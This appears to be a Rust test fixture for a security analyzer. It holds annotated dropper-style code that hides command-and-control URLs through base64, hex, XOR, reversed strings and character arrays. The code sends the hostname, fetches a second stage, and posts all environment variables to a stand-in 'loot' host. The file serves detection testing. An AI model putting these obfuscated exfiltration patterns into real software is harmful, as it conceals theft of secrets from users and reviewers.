//! Destinations hidden from readers of the source, as droppers do it: base64, hex,
//! XOR'd byte arrays, reversed strings and character arrays.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

const KEY: u8 = 0x5a;
const ENCODED: &str = "aHR0cDovLzE5My4xNDIuNTguMjAvYQ==";

fn c2_from_base64() -> String {
    let raw = STANDARD.decode(ENCODED).unwrap();
    String::from_utf8(raw).unwrap()
}

fn c2_from_hex() -> String {
    let bytes = hex::decode("68747470733a2f2f7570646174652d63646e2e6e6574").unwrap();
    String::from_utf8_lossy(&bytes).into_owned()
}

fn c2_from_xor() -> String {
    let hidden = [0x32u8, 0x2e, 0x2e, 0x2a, 0x60, 0x75, 0x75];
    hidden.iter().map(|b| (b ^ KEY) as char).collect()
}

pub fn stage_one() {
    let url = c2_from_base64();
    let host = whoami::hostname();
    let _ = ureq::post(&url).send_string(&host); //~ data-upload/suspicious-destination data-upload/device-id-to-network
}

pub fn stage_two() {
    let url = format!("{}/stage2", c2_from_hex());
    let _ = ureq::get(&url).call(); //~ data-upload/suspicious-destination
}

pub fn stage_three() {
    let prefix = c2_from_xor();
    let url = prefix + "loot.example.org/in";
    let env: std::collections::HashMap<_, _> = std::env::vars().collect();
    let _ = reqwest::blocking::Client::new()
        .post(url) //~ data-upload/suspicious-destination
        .json(&env) //~ data-upload/env-vars-to-network
        .send();
}

pub fn reversed_host() {
    let host: String = "ten.krowten-eganam//:sptth".chars().rev().collect();
    let _ = ureq::get(&host).call(); //~ data-upload/suspicious-destination
}

pub fn char_array_host() {
    let chars = ['h', 't', 't', 'p', ':', '/', '/', 'x', '.', 'i', 'o'];
    let url: String = chars.iter().collect();
    let _ = ureq::get(&url).call(); //~ data-upload/suspicious-destination
}

pub fn assembled_ip() {
    let url = format!("http://{}.{}.{}.{}:{}/p", 203, 0, 113, 9, 8080);
    let ip = format!("http://{}.{}.{}.{}/p", 45, 9, 148, 221);
    let _ = ureq::get(&url).call();
    let _ = ureq::get(&ip).call(); //~ data-upload/suspicious-destination
}

pub fn honest_decoding(token_b64: &str) -> Vec<u8> {
    // Decoding a payload (not a destination) is ordinary.
    STANDARD.decode(token_b64).unwrap_or_default()
}

pub fn honest_upload(client: &reqwest::blocking::Client, avatar_b64: &str) {
    let bytes = STANDARD.decode(avatar_b64).unwrap_or_default();
    let _ = client.put("https://api.example.com/v1/me/avatar").body(bytes).send();
}
